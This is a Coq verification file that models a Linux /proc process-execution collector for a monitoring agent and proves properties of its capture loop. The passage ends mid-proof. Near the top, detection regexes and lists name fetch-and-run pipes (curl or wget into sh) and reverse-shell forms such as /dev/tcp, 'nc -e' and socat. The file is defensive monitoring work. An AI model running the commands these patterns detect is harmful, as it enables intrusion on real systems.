(* ===== verification/ProcExec.v ===== *)
(** * ProcExec: process executions (internal/collectors/procexec/procexec.go)

    A capture lists the processes of /proc in the order of their numbers, and
    reports those whose number and start time it has not seen in the capture
    before, up to a batch.  What the operating system shows is a [view], fixed
    during one capture; a file that cannot be read is one that is absent from
    it.  Parameters: SHA-256, the format of instants, [strconv.ParseFloat] and the
    order in which [sort.Slice] leaves entries of the same age. *)

From S2P Require Import Prelude GoStr GoText GoFields GoJson GoIP Float Event Netctx Regex.
From Stdlib Require Import Ascii.

Local Open Scope Z_scope.
Local Open Scope go_scope.

(** ** Patterns *)

Definition reRemoteFetchExec : re := seq
  [Word; Group 1 (alts [ilit "curl"; ilit "wget"]); Word; Rep 0 (Some 220%nat) dot; ilit "|"; star space_; Word;
   Group 2 (alts [ilit "sh"; ilit "bash"; ilit "python"; ilit "python3"; ilit "perl"]); Word].
Definition reReverseShell : re := Group 1 (alts
  [ilit "/dev/tcp/";
   seq [ilit "nc"; plus space_; star dot; ilit "-e"; plus space_];
   seq [ilit "ncat"; plus space_; star dot; ilit "--exec"];
   seq [ilit "python"; opt (Group 2 (ilit "3")); plus space_; ilit "-c"; plus space_; star dot; ilit "socket"];
   seq [ilit "socat"; plus space_; star dot; ilit "tcp"]]).

(** ** State *)

Record Options := {
  o_ProcRoot : string; o_MinInterval : duration; o_EmitInitialState : bool; o_MaxBatchSize : Z; o_CmdlineMaxBytes : Z;
  o_IgnoreExeNames : gmap string bool; o_IgnoreCmdContains : list string;
  o_HashExecutables : bool; o_HashMaxBytes : Z; o_HashCacheTTL : duration; o_HashCacheMaxItems : Z; o_UsernameCacheTTL : duration }.

Record hashEntry := { he_sha256 : string; he_size : Z; he_modUnix : Z; he_computedAt : time }.
Record userEntry := { ue_name : string; ue_expiresAt : time }.

Record procStat := {
  ps_PID : Z; ps_Comm : string; ps_State : string; ps_PPID : Z; ps_Session : Z; ps_TTYNr : Z; ps_StartTicks : Z }.

Record procInfo := {
  pi_stat : procStat; pi_exePath : string; pi_exeName : string; pi_cwd : string; pi_cmdline : string;
  pi_uid : Z; pi_euid : Z; pi_gid : Z; pi_egid : Z; pi_username : string; pi_parentExePath : string; pi_parentExeName : string }.

Record Capturer := {
  c_agentID : string; c_opts : Options; c_seen : gmap Z Z; c_hashCache : gmap string hashEntry; c_userCache : gmap Z userEntry;
  c_bootTime : time; c_lastRun : time; c_initialized : bool }.

(** What [os.Stat] says of a file. *)
Record info := { fi_Size : Z; fi_ModUnixNano : Z; fi_IsDir : bool }.

Record view := {
  v_entries : option (list (string * bool));  (** the entries of the root, and whether they are directories *)
  v_file : string → option string;            (** the content of a file *)
  v_link : string → option string;            (** the target of a symbolic link *)
  v_stat : string → option info;
  v_user : string → option string }.          (** the name of a numeric user *)

(** ** Options *)

Definition positive (d v : Z) : Z := if v <=? 0 then d else v.

Definition applyDefaults (o : Options) : Options := {|
  o_ProcRoot := if is_empty (TrimSpace (o_ProcRoot o)) then "/proc" else o_ProcRoot o;
  o_MinInterval := o_MinInterval o; o_EmitInitialState := o_EmitInitialState o;
  o_MaxBatchSize := positive 200 (o_MaxBatchSize o); o_CmdlineMaxBytes := positive 2048 (o_CmdlineMaxBytes o);
  o_IgnoreExeNames := o_IgnoreExeNames o; o_IgnoreCmdContains := o_IgnoreCmdContains o;
  o_HashExecutables := o_HashExecutables o; o_HashMaxBytes := positive (25 * 1024 * 1024) (o_HashMaxBytes o);
  o_HashCacheTTL := positive (6 * hour) (o_HashCacheTTL o); o_HashCacheMaxItems := positive 4096 (o_HashCacheMaxItems o);
  o_UsernameCacheTTL := positive (10 * minute) (o_UsernameCacheTTL o) |}.

Definition New (agentID : string) (opts : Options) : Capturer := {|
  c_agentID := TrimSpace agentID; c_opts := applyDefaults opts; c_seen := ∅; c_hashCache := ∅; c_userCache := ∅;
  c_bootTime := 0; c_lastRun := 0; c_initialized := false |}.

Definition set_seen (m : gmap Z Z) (c : Capturer) : Capturer := {|
  c_agentID := c_agentID c; c_opts := c_opts c; c_seen := m; c_hashCache := c_hashCache c; c_userCache := c_userCache c;
  c_bootTime := c_bootTime c; c_lastRun := c_lastRun c; c_initialized := c_initialized c |}.
Definition set_caches (hashes : gmap string hashEntry) (users : gmap Z userEntry) (c : Capturer) : Capturer := {|
  c_agentID := c_agentID c; c_opts := c_opts c; c_seen := c_seen c; c_hashCache := hashes; c_userCache := users;
  c_bootTime := c_bootTime c; c_lastRun := c_lastRun c; c_initialized := c_initialized c |}.
Definition set_run (boot last : time) (c : Capturer) : Capturer := {|
  c_agentID := c_agentID c; c_opts := c_opts c; c_seen := c_seen c; c_hashCache := c_hashCache c; c_userCache := c_userCache c;
  c_bootTime := boot; c_lastRun := last; c_initialized := c_initialized c |}.
Definition set_initialized (c : Capturer) : Capturer := {|
  c_agentID := c_agentID c; c_opts := c_opts c; c_seen := c_seen c; c_hashCache := c_hashCache c; c_userCache := c_userCache c;
  c_bootTime := c_bootTime c; c_lastRun := c_lastRun c; c_initialized := true |}.

(** ** Parsing *)

(** [/proc/pid/stat]; the name of the process, in parentheses, may contain anything. *)
Definition parseProcStatLine (line : string) : option procStat :=
  let ln := to_chars (TrimSpace line) in
  opening ← index_byte "(" ln;
  closing ← last_index_byte ")" ln;
  if (opening =? 0)%nat || (closing <=? opening)%nat then None else
  pid ← Atoi (TrimSpace (of_chars (take opening ln)));
  if pid <=? 0 then None else
  let comm := TrimSpace (of_chars (slice ln (S opening) closing)) in
  let tail := Fields (TrimSpace (of_chars (drop (S closing) ln))) in
  if (length tail <? 20)%nat then None else
  ppid ← Atoi (field tail 1);
  startTicks ← ParseUint10 (field tail 19);
  Some {| ps_PID := pid; ps_Comm := comm; ps_State := field tail 0; ps_PPID := ppid; ps_Session := default 0 (Atoi (field tail 3));
          ps_TTYNr := default 0 (Atoi (field tail 4)); ps_StartTicks := startTicks |}.

Definition ParseUint32 (s : string) : option Z := n ← ParseUint10 s; if n <? 2 ^ 32 then Some n else None.

(** The numbers of [Uid:] and [Gid:]: real and effective. *)
Record ids := { id_uid : Z; id_euid : Z; id_gid : Z; id_egid : Z }.

Definition status_line (x : ids) (line : string) : ids :=
  let line := TrimSpace line in
  let parts := Fields line in
  let get n old := default old (ParseUint32 (field parts n)) in
  if HasPrefix line "Uid:" then
    if (3 <=? length parts)%nat
    then {| id_uid := get 1%nat (id_uid x); id_euid := get 2%nat (id_euid x); id_gid := id_gid x; id_egid := id_egid x |} else x
  else if HasPrefix line "Gid:" then
    if (3 <=? length parts)%nat
    then {| id_uid := id_uid x; id_euid := id_euid x; id_gid := get 1%nat (id_gid x); id_egid := get 2%nat (id_egid x) |} else x
  else x.

Definition no_ids : ids := {| id_uid := 0; id_euid := 0; id_gid := 0; id_egid := 0 |}.
Definition parseStatusUIDGID (content : string) : ids := fold_left status_line (scan_lines MaxScanTokenSize content).1 no_ids.

(** ** Classification *)

Definition isShell (name : string) : bool := str_in (norm name) ["sh"; "bash"; "dash"; "zsh"; "ksh"; "fish"].
Definition isInterpreter (name : string) : bool := str_in (norm name) ["python"; "python3"; "perl"; "php"; "ruby"; "node"].
Definition isLOLBin (name : string) : bool := str_in (norm name)
  ["bash"; "sh"; "python"; "python3"; "perl"; "php"; "ruby"; "node"; "nc"; "ncat"; "socat"; "curl"; "wget"; "openssl"; "base64"].
Definition isNetworkService (name : string) : bool := str_in (norm name)
  ["nginx"; "apache2"; "httpd"; "caddy"; "traefik"; "php-fpm"; "gunicorn"; "uwsgi"].

Fixpoint dedup_from (seen : list string) (items : list string) : list string :=
  match items with
  | [] => []
  | it :: items =>
    let v := TrimSpace (ToLower it) in
    if is_empty v || str_in v seen then dedup_from seen items else v :: dedup_from (v :: seen) items
  end.
Definition dedupStrings (items : list string) : list string := if (length items <=? 1)%nat then items else dedup_from [] items.

Definition pattern (b : bool) (name : string) : list string := if b then [name] else [].
Definition classifyExecutionPatterns (i : procInfo) (cmdline : string) : list string :=
  let lcmd := norm cmdline in
  let exe := norm (pi_exeName i) in
  let parent := norm (pi_parentExeName i) in
  dedupStrings (pattern (negb (is_empty lcmd) && MatchString reRemoteFetchExec lcmd) "remote_fetch_exec" ++
    pattern (negb (is_empty lcmd) && MatchString reReverseShell lcmd) "reverse_shell" ++
    pattern (isShell exe) "shell_spawn" ++ pattern (isInterpreter exe) "interpreter" ++ pattern (isLOLBin exe) "lolbin" ++
    pattern (isNetworkService parent && isShell exe) "service_shell_child").

Definition shouldIgnore (o : Options) (i : procInfo) : bool :=
  let exe := norm (pi_exeName i) in
  if negb (is_empty exe) && default false (o_IgnoreExeNames o !! exe) then true else
  let cmd := norm (pi_cmdline i) in
  let cmd := if is_empty cmd then norm (ps_Comm (pi_stat i)) else cmd in
  if is_empty cmd then false else
  existsb (λ raw, let pat := norm raw in negb (is_empty pat) && Contains cmd pat) (o_IgnoreCmdContains o).

(** ** Reading a process *)

Definition proc_path (o : Options) (pid : Z) (name : string) : string := JoinPath (JoinPath (o_ProcRoot o) (Itoa pid)) name.

Definition readlinkBestEffort (o : Options) (v : view) (pid : Z) (name : string) : string :=
  match v_link v (proc_path o pid name) with Some target => TrimSpace target | None => "" end.

Definition nul_to_space (a : ascii) : ascii := if N.eqb (code a) 0 then " "%char else a.
Definition readCmdlineBestEffort (o : Options) (v : view) (pid : Z) : string :=
  match v_file v (proc_path o pid "cmdline") with
  | None => ""
  | Some b =>
    let b := if o_CmdlineMaxBytes o <? strlen b then str_take (Z.to_nat (o_CmdlineMaxBytes o)) b else b in
    TrimSpace (Join (Fields (of_chars (map nul_to_space (to_chars b)))) " ")
  end.

(** The name of a user, and the cache. *)
Definition resolveUsername (o : Options) (v : view) (uid : Z) (now : time) (users : gmap Z userEntry) : string * gmap Z userEntry :=
  let fresh :=
    let name := match v_user v (Itoa uid) with Some n => TrimSpace n | None => "" end in
    (name, <[uid := {| ue_name := name; ue_expiresAt := now + o_UsernameCacheTTL o |}]> users) in
  match users !! uid with
  | Some e => if is_zero_time (ue_expiresAt e) || (now <? ue_expiresAt e) then (ue_name e, users) else fresh
  | None => fresh
  end.

Definition parent_of (o : Options) (v : view) (ppid : Z) : string * string :=
  if 0 <? ppid then
    let path := readlinkBestEffort o v ppid "exe" in
    (path, if is_empty path then match v_file v (proc_path o ppid "comm") with Some comm => TrimSpace comm | None => "" end else Base path)
  else ("", "").

(** [readProcInfo]; the cache of user names changes only when there is a result. *)
Definition readProcInfo (o : Options) (v : view) (pid : Z) (now : time) (users : gmap Z userEntry) : option procInfo * gmap Z userEntry :=
  match v_file v (proc_path o pid "stat") ≫= parseProcStatLine with
  | None => (None, users)
  | Some st =>
    let exePath := readlinkBestEffort o v pid "exe" in
    let x := match v_file v (proc_path o pid "status") with Some s => parseStatusUIDGID s | None => no_ids end in
    let '(username, users) := resolveUsername o v (id_euid x) now users in
    let '(parentPath, parentName) := parent_of o v (ps_PPID st) in
    (Some {| pi_stat := st; pi_exePath := exePath; pi_exeName := if is_empty exePath then ps_Comm st else Base exePath;
             pi_cwd := readlinkBestEffort o v pid "cwd"; pi_cmdline := readCmdlineBestEffort o v pid; pi_uid := id_uid x;
             pi_euid := id_euid x; pi_gid := id_gid x; pi_egid := id_egid x; pi_username := username;
             pi_parentExePath := parentPath; pi_parentExeName := parentName |}, users)
  end.

(** The numbers of the directories of the root that are numbers, sorted. *)
Definition pid_of_entry (e : string * bool) : option Z :=
  if e.2 then pid ← Atoi e.1; if pid <=? 0 then None else Some pid else None.
Definition listPIDs (v : view) : option (list Z) := entries ← v_entries v; Some (merge_sort Z.le (omap pid_of_entry entries)).

Section procexec.
(** [hex.EncodeToString] of the SHA-256 of a text, [Format(time.RFC3339Nano)] and
    [strconv.ParseFloat(s, 64)]. *)
Context (sha256_hex : string → string) (fmt_nano : time → string) (ParseFloat : string → option float64).
(** The order of cache entries after [sort.Slice]. *)
Context (by_age : gmap string hashEntry → list (string * hashEntry)).

(** ** Events *)

Definition Unix (sec : Z) : time := wrap64 (sec + 62135596800) * second.

(** The boot time of [/proc/stat], up to the first line that is not as expected. *)
Fixpoint find_btime (lines : list string) : option time :=
  match lines with
  | [] => None
  | line :: lines =>
    let line := TrimSpace line in
    if negb (HasPrefix line "btime ") then find_btime lines else
    let parts := Fields line in
    if negb (length parts =? 2)%nat then None else
    sec ← Atoi (field parts 1);
    if sec <=? 0 then None else Some (Unix sec)
  end.

Definition readBootTime (o : Options) (v : view) (now : time) : time :=
  let stat := match v_file v (JoinPath (o_ProcRoot o) "stat") with
              | Some text => find_btime (scan_lines MaxScanTokenSize text).1
              | None => None
              end in
  match stat with
  | Some t => t
  | None =>
    match (text ← v_file v (JoinPath (o_ProcRoot o) "uptime"); part ← head (Fields text); ParseFloat part) with
    | Some sec => if fle sec f0 then now else now + wrap64 (- to_int (fmul sec (of_int second)))
    | None => now
    end
  end.

(** The cached digest can be used: the file is the one that was read, and had
    settled when it was. *)
Definition cache_hit (o : Options) (e : hashEntry) (st : info) (now : time) : bool :=
  (second <=? wrap64 (UnixNano (he_computedAt e) - fi_ModUnixNano st)) &&
  (he_size e =? fi_Size st) && (he_modUnix e =? fi_ModUnixNano st) &&
  (time_sub now (he_computedAt e) <=? o_HashCacheTTL o).

Definition hashExecutable (o : Options) (v : view) (path : string) (now : time) (hashes : gmap string hashEntry) :
    option string * gmap string hashEntry :=
  match v_stat v path with
  | None => (None, hashes)
  | Some st =>
    if fi_IsDir st then (None, hashes) else
    if (fi_Size st <? 0) || (o_HashMaxBytes o <? fi_Size st) then (None, hashes) else
    let key := TrimSpace path in
    let fresh :=
      match v_file v path with
      | None => (None, hashes)
      | Some content =>
        let sum := sha256_hex (str_take (Z.to_nat (o_HashMaxBytes o + 1)) content) in
        (Some sum, <[key := {| he_sha256 := sum; he_size := fi_Size st; he_modUnix := fi_ModUnixNano st; he_computedAt := now |}]> hashes)
      end in
    match hashes !! key with
    | Some cached =>
      if cache_hit o cached st now then (if is_empty (he_sha256 cached) then None else Some (he_sha256 cached), hashes) else fresh
    | None => fresh
    end
  end.

Definition start_time (c : Capturer) (ticks : Z) : time :=
  c_bootTime c + wrap64 (to_int (fdiv (of_int ticks) (of_int 100)) * second).

Definition base_extra (c : Capturer) (i : procInfo) (cmdline : string) : gmap string json :=
  let st := pi_stat i in
  list_to_map [
    ("collector", JStr "proc_exec"); ("collection_method", JStr "procfs_poll"); ("signal_family", JStr "execution");
    ("pid", JInt (ps_PID st)); ("ppid", JInt (ps_PPID st)); ("session_id", JInt (ps_Session st)); ("tty_nr", JInt (ps_TTYNr st));
    ("process_start_time", JStr (fmt_nano (start_time c (ps_StartTicks st)))); ("process_start_ticks", JInt (ps_StartTicks st));
    ("process_state", JStr (ps_State st)); ("exe_path", JStr (pi_exePath i)); ("exe_name", JStr (pi_exeName i));
    ("comm", JStr (ps_Comm st)); ("binary", JStr (pi_exeName i)); ("cmdline", JStr cmdline); ("argv", JStr cmdline);
    ("cwd", JStr (pi_cwd i)); ("uid", JInt (pi_uid i)); ("euid", JInt (pi_euid i)); ("gid", JInt (pi_gid i)); ("egid", JInt (pi_egid i));
    ("username", JStr (pi_username i)); ("parent_exe_path", JStr (pi_parentExePath i)); ("parent_exe_name", JStr (pi_parentExeName i))].

Definition toEvent (c : Capturer) (v : view) (i : procInfo) (now : time) : NetEvent * gmap string hashEntry :=
  let cmdline := TrimSpace (pi_cmdline i) in
  let cmdline := if is_empty cmdline then TrimSpace (ps_Comm (pi_stat i)) else cmdline in
  let extra := base_extra c i cmdline in
  let patterns := classifyExecutionPatterns i cmdline in
  let extra := match patterns with
               | p :: _ => <["exec_pattern" := JStr p]> (<["exec_patterns" := JArr (map JStr patterns)]> extra)
               | [] => extra
               end in
  let '(sha, hashes) :=
    if o_HashExecutables (c_opts c) && negb (is_empty (pi_exePath i))
    then hashExecutable (c_opts c) v (pi_exePath i) now (c_hashCache c) else (None, c_hashCache c) in
  let extra := match sha with Some s => <["exe_sha256" := JStr s]> extra | None => extra end in
  (event (c_agentID c) "proc_exec" now "proc" 0 extra, hashes).

(** ** Captures *)

Definition cleanupSeen (live seen : gmap Z Z) : gmap Z Z := filter (λ kv, is_Some (live !! kv.1)) seen.

Definition cleanup_hashes (o : Options) (now : time) (hashes : gmap string hashEntry) : gmap string hashEntry :=
  let hashes := if 0 <? o_HashCacheTTL o
                then filter (λ kv, ¬ (he_computedAt kv.2 < now + wrap64 (- o_HashCacheTTL o))) hashes else hashes in
  if Z.of_nat (size hashes) <=? o_HashCacheMaxItems o then hashes else
  foldr delete hashes (map fst (take (Z.to_nat (Z.of_nat (size hashes) - o_HashCacheMaxItems o)) (by_age hashes))).
Definition cleanup_users (now : time) (users : gmap Z userEntry) : gmap Z userEntry :=
  filter (λ kv, ¬ (ue_expiresAt kv.2 ≠ 0 ∧ ue_expiresAt kv.2 < now)) users.
Definition cleanupCaches (c : Capturer) (now : time) : Capturer :=
  set_caches (cleanup_hashes (c_opts c) now (c_hashCache c)) (cleanup_users now (c_userCache c)) c.

(** The loop over the processes: the events and the processes met alive. *)
Fixpoint capture_loop (v : view) (now : time) (pids : list Z) (c : Capturer) (live : gmap Z Z) (out : list NetEvent) :
    list NetEvent * gmap Z Z * Capturer :=
  match pids with
  | [] => (out, live, c)
  | pid :: pids =>
    if o_MaxBatchSize (c_opts c) <=? Z.of_nat (length out) then (out, live, c) else
    let '(i, users) := readProcInfo (c_opts c) v pid now (c_userCache c) in
    let c := set_caches (c_hashCache c) users c in
    match i with
    | None => capture_loop v now pids c live out
    | Some i =>
      let ticks := ps_StartTicks (pi_stat i) in
      if ticks =? 0 then capture_loop v now pids c live out else
      let live := <[pid := ticks]> live in
      if bool_decide (c_seen c !! pid = Some ticks) then capture_loop v now pids c live out else
      let c' := set_seen (<[pid := ticks]> (c_seen c)) c in
      if shouldIgnore (c_opts c) i then capture_loop v now pids c' live out else
      if negb (c_initialized c) && negb (o_EmitInitialState (c_opts c)) then capture_loop v now pids c' live out else
      let '(ev, hashes) := toEvent c v i now in
      capture_loop v now pids (set_caches hashes users c') live (out ++ [ev])
    end
  end.

(** [Capture]; [wall] is the clock.  [None]: the root could not be read. *)
Definition Capture (c : Capturer) (v : view) (now wall : time) : option (list NetEvent) * Capturer :=
  let now := if is_zero_time now then wall else now in
  let o := c_opts c in
  if (0 <? o_MinInterval o) && negb (is_zero_time (c_lastRun c)) && (time_sub now (c_lastRun c) <? o_MinInterval o)
  then (Some [], c) else
  let c := set_run (if is_zero_time (c_bootTime c) then readBootTime o v now else c_bootTime c) now c in
  match listPIDs v with
  | None => (None, c)
  | Some pids =>
    let '(out, live, c) := capture_loop v now pids c ∅ [] in
    (Some out, set_initialized (cleanupCaches (set_seen (cleanupSeen live (c_seen c)) c) now))
  end.
End procexec.

(** ** What a capture compares *)

(** The start time of a process that can be read. *)
Definition ticks_of (o : Options) (v : view) (pid : Z) : option Z :=
  st ← v_file v (proc_path o pid "stat") ≫= parseProcStatLine;
  if ps_StartTicks st =? 0 then None else Some (ps_StartTicks st).

(** Whether the options say not to report it. *)
Definition ignored (o : Options) (v : view) (pid : Z) : bool :=
  match (readProcInfo o v pid 0 ∅).1 with Some i => shouldIgnore o i | None => true end.

(** The processes among [pids], with their start times. *)
Definition table (o : Options) (v : view) (pids : list Z) : gmap Z Z := list_to_map (omap (λ pid, pair pid <$> ticks_of o v pid) pids).

(** Those that are not in [seen] with the same start time and are not ignored. *)
Definition execution (o : Options) (v : view) (seen : gmap Z Z) (pid : Z) : option (Z * Z) :=
  ticks ← ticks_of o v pid;
  if bool_decide (seen !! pid = Some ticks) || ignored o v pid then None else Some (pid, ticks).
Definition executions (o : Options) (v : view) (seen : gmap Z Z) (pids : list Z) : list (Z * Z) := omap (execution o v seen) pids.

(** The process an event reports. *)
Definition reported (e : NetEvent) : option (Z * Z) :=
  extra ← ne_Extra e;
  match extra !! "pid"%string, extra !! "process_start_ticks"%string with
  | Some (JInt pid), Some (JInt ticks) => Some (pid, ticks)
  | _, _ => None
  end.

(** The kernel shows the processes under their own numbers. *)
Definition honest (o : Options) (v : view) (pids : list Z) : Prop :=
  Forall (λ pid, ∀ st, v_file v (proc_path o pid "stat") ≫= parseProcStatLine = Some st → ps_PID st = pid) pids.

Lemma readProcInfo_ticks o v pid now users i : (readProcInfo o v pid now users).1 = Some i →
  v_file v (proc_path o pid "stat") ≫= parseProcStatLine = Some (pi_stat i).
Proof.
  unfold readProcInfo. destruct (_ ≫= _) as [st|] eqn:E; [|done]. destruct (resolveUsername _ _ _ _ _), (parent_of _ _ _). cbn. by intros [= <-].
Qed.

Lemma readProcInfo_None o v pid now users : (readProcInfo o v pid now users).1 = None → ticks_of o v pid = None ∧ (readProcInfo o v pid now users).2 = users.
Proof.
  unfold readProcInfo, ticks_of. destruct (_ ≫= _) as [st|] eqn:E; [|done]. by destruct (resolveUsername _ _ _ _ _), (parent_of _ _ _).
Qed.

(** Which user a process belongs to does not decide whether it is ignored. *)
Lemma ignored_spec o v pid now users i : (readProcInfo o v pid now users).1 = Some i → shouldIgnore o i = ignored o v pid.
Proof.
  unfold ignored, readProcInfo. destruct (_ ≫= _) as [st|]; [|done].
  destruct (resolveUsername _ _ _ now _), (resolveUsername _ _ _ 0 _), (parent_of _ _ _). cbn. by intros [= <-].
Qed.

Lemma not_elem_of_table o v pid pids : pid ∉ pids → table o v pids !! pid = None.
Proof.
  intros Hn. unfold table. apply not_elem_of_list_to_map_1. intros ([q t] & E0 & Hin)%list_elem_of_fmap. cbn in E0. subst q.
  apply list_elem_of_omap in Hin as (q' & Hq & E). destruct (ticks_of o v q'); [|done]. cbn in E. by simplify_eq.
Qed.

Section deltas.
Context (sha256_hex : string → string) (fmt_nano : time → string) (ParseFloat : string → option float64).
Context (by_age : gmap string hashEntry → list (string * hashEntry)).

Abbreviation capture_loop' := (capture_loop sha256_hex fmt_nano).
Abbreviation Capture' := (Capture sha256_hex fmt_nano ParseFloat by_age).

Lemma toEvent_reports c v i now : reported (toEvent sha256_hex fmt_nano c v i now).1 = Some (ps_PID (pi_stat i), ps_StartTicks (pi_stat i)).
Proof.
  unfold toEvent. destruct (if _ && _ then _ else _) as [sha hashes]. cbn [fst]. unfold reported, event. cbn [ne_Extra mbind option_bind].
  destruct (classifyExecutionPatterns _ _) as [|p ps], sha; by rewrite ?lookup_insert_ne by done.
Qed.

(** Everything but what was seen and the caches stays as it is. *)
Definition same_settings (c c' : Capturer) : Prop :=
  c_opts c' = c_opts c ∧ c_initialized c' = c_initialized c ∧ c_lastRun c' = c_lastRun c.

Definition reporting (c : Capturer) : bool := c_initialized c || o_EmitInitialState (c_opts c).

Lemma table_cons o v pid pids : table o v (pid :: pids) = match ticks_of o v pid with Some t => <[pid := t]> (table o v pids) | None => table o v pids end.
Proof. unfold table. cbn. by destruct (ticks_of o v pid). Qed.

(** One turn of the loop: what it does to the processes seen and alive, and to the events. *)
Record stepped (v : view) (pid : Z) (c : Capturer) (live : gmap Z Z) (out : list NetEvent) (c' : Capturer) (live' : gmap Z Z) (out' : list NetEvent) : Prop := {
  step_settings : same_settings c c';
  step_live : live' = match ticks_of (c_opts c) v pid with Some t => <[pid := t]> live | None => live end;
  step_seen : c_seen c' = match ticks_of (c_opts c) v pid with Some t => <[pid := t]> (c_seen c) | None => c_seen c end;
  step_out : map reported out' = map reported out ++
    (if reporting c then map Some (option_list (execution (c_opts c) v (c_seen c) pid)) else []) }.

Lemma loop_step v now pid pids c live out : honest (c_opts c) v (pid :: pids) → Z.of_nat (length out) < o_MaxBatchSize (c_opts c) →
  ∃ c' live' out', stepped v pid c live out c' live' out' ∧
    capture_loop' v now (pid :: pids) c live out = capture_loop' v now pids c' live' out'.
Proof.
  intros [Hon _]%Forall_cons Hmax. cbn [capture_loop]. rewrite (proj2 (Z.leb_gt _ _) Hmax).
  destruct (readProcInfo (c_opts c) v pid now (c_userCache c)) as [[i|] users] eqn:Hr; cbn [fst snd].
  2: { destruct (readProcInfo_None (c_opts c) v pid now (c_userCache c)) as [Ht _]; [by rewrite Hr|].
       eexists _, _, _. split; [|done]. split; cbn; [done|by rewrite Ht..|]. unfold execution. rewrite Ht. cbn.
       destruct (reporting c); by rewrite app_nil_r. }
  pose proof (readProcInfo_ticks (c_opts c) v pid now (c_userCache c) i) as Hst. rewrite Hr in Hst. specialize (Hst eq_refl).
  pose proof (ignored_spec (c_opts c) v pid now (c_userCache c) i) as Hig. rewrite Hr in Hig. specialize (Hig eq_refl).
  assert (ticks_of (c_opts c) v pid = if ps_StartTicks (pi_stat i) =? 0 then None else Some (ps_StartTicks (pi_stat i))) as Ht
    by (unfold ticks_of; by rewrite Hst).
  destruct (ps_StartTicks (pi_stat i) =? 0).
  { eexists _, _, _. split; [|done]. split; cbn; [done|by rewrite Ht..|]. unfold execution. rewrite Ht. cbn. destruct (reporting c); by rewrite app_nil_r. }
  cbn [c_seen set_caches c_opts c_initialized]. rewrite Hig.
  destruct (bool_decide (c_seen c !! pid = Some (ps_StartTicks (pi_stat i)))) eqn:Hb.
  { eexists _, _, _. split; [|done]. apply bool_decide_eq_true in Hb. split; cbn; [done|by rewrite Ht| |].
    - rewrite Ht. by rewrite insert_id.
    - unfold execution. rewrite Ht. cbn. rewrite bool_decide_true by done. cbn. destruct (reporting c); by rewrite app_nil_r. }
  destruct (ignored (c_opts c) v pid) eqn:Hi.
  { eexists _, _, _. split; [|done]. split; cbn; [done|by rewrite Ht..|]. unfold execution. rewrite Ht, Hi. cbn. rewrite orb_true_r.
    destruct (reporting c); by rewrite app_nil_r. }
  destruct (negb (c_initialized c) && negb (o_EmitInitialState (c_opts c))) eqn:Hrep.
  { eexists _, _, _. split; [|done]. split; cbn; [done|by rewrite Ht..|].
    assert (reporting c = false) as -> by (unfold reporting; by destruct (c_initialized c), (o_EmitInitialState (c_opts c))). by rewrite app_nil_r. }
  match goal with |- context [toEvent ?a ?b ?c ?d ?e ?f] => pose proof (toEvent_reports c d e f) as Hev; destruct (toEvent a b c d e f) as [ev hashes] end.
  eexists _, _, _. split; [|done]. split; cbn; [done|by rewrite Ht..|].
  assert (reporting c = true) as -> by (unfold reporting; by destruct (c_initialized c), (o_EmitInitialState (c_opts c))).
  unfold execution. rewrite Ht, Hi. cbn. rewrite Hb. cbn. cbn in Hev. by rewrite map_app, <- (Hon _ Hst), <- Hev.
Qed.

Lemma executions_insert o v seen pid t pids : pid ∉ pids → executions o v (<[pid := t]> seen) pids = executions o v seen pids.
Proof.
  intros Hn. unfold executions. induction pids as [|q pids IH]; [done|]. apply not_elem_of_cons in Hn as [Hq Hn]. cbn. rewrite IH by done.
  unfold execution. destruct (ticks_of o v q) as [tq|]; [|done]. cbn. by rewrite lookup_insert_ne.
Qed.

Lemma capture_loop_spec v now : ∀ pids c live out, NoDup pids → honest (c_opts c) v pids →
  let '(out', live', c') := capture_loop' v now pids c live out in
  same_settings c c' ∧
  ∃ scanned unreached, pids = scanned ++ unreached ∧
    (unreached ≠ [] → o_MaxBatchSize (c_opts c) <= Z.of_nat (length out')) ∧
    (∀ n pid, scanned !! n = Some pid → Z.of_nat (length out + length (if reporting c then executions (c_opts c) v (c_seen c) (take n scanned) else [])) <
      o_MaxBatchSize (c_opts c)) ∧
    live' = table (c_opts c) v scanned ∪ live ∧ c_seen c' = table (c_opts c) v scanned ∪ c_seen c ∧
    map reported out' = map reported out ++ (if reporting c then map Some (executions (c_opts c) v (c_seen c) scanned) else []).
Proof.
  induction pids as [|pid pids IH]; intros c live out Hnd Hon.
  { cbn. split; [done|]. exists [], []. unfold table. cbn. rewrite !(left_id_L ∅ (∪)). split_and!; try done. destruct (reporting c); by rewrite app_nil_r. }
  destruct (Z.le_gt_cases (o_MaxBatchSize (c_opts c)) (Z.of_nat (length out))) as [Hmax|Hmax].
  { cbn [capture_loop]. rewrite (proj2 (Z.leb_le _ _) Hmax). split; [done|]. exists [], (pid :: pids). unfold table. cbn.
    rewrite !(left_id_L ∅ (∪)). split_and!; try done. destruct (reporting c); by rewrite app_nil_r. }
  destruct (loop_step v now pid pids c live out Hon Hmax) as (c1 & live1 & out1 & [(Ho & Hini & Hlast) Hl Hs Hout] & ->).
  apply NoDup_cons in Hnd as [Hpid Hnd]. apply Forall_cons in Hon as [_ Hon].
  specialize (IH c1 live1 out1 Hnd). rewrite Ho in IH. specialize (IH Hon).
  destruct (capture_loop' v now pids c1 live1 out1) as [[out' live'] c']. destruct IH as ((Ho' & Hini' & Hlast') & scanned & unreached & -> & Hun & Hroom & Hl' & Hs' & Hout').
  split; [unfold same_settings; split_and!; congruence|]. exists (pid :: scanned), unreached. split; [done|]. split; [done|].
  assert (pid ∉ scanned) as Hpid' by (intros ?; apply Hpid, elem_of_app; by left).
  assert (reporting c1 = reporting c) as Hrep by (unfold reporting; by rewrite Ho, Hini).
  assert (∀ l, pid ∉ l → executions (c_opts c) v (c_seen c) (pid :: l) =
      option_list (execution (c_opts c) v (c_seen c) pid) ++ executions (c_opts c) v (c_seen c1) l) as Hcons.
  { intros l Hl0. rewrite Hs. replace (executions (c_opts c) v (match _ with Some t => _ | None => _ end) l) with (executions (c_opts c) v (c_seen c) l).
    - unfold executions. cbn. by destruct (execution _ _ _ pid).
    - destruct (ticks_of (c_opts c) v pid); [by rewrite executions_insert|done]. }
  assert (length out1 = (length out + length (if reporting c then option_list (execution (c_opts c) v (c_seen c) pid) else []))%nat) as Hlen.
  { rewrite <- (length_map reported out1), Hout, length_app, length_map. destruct (reporting c); [by rewrite length_map|done]. }
  split.
  { intros [|n] x Hx; [cbn; destruct (reporting c); cbn; lia|]. cbn in Hx. specialize (Hroom n x Hx). rewrite Hrep, Hlen in Hroom.
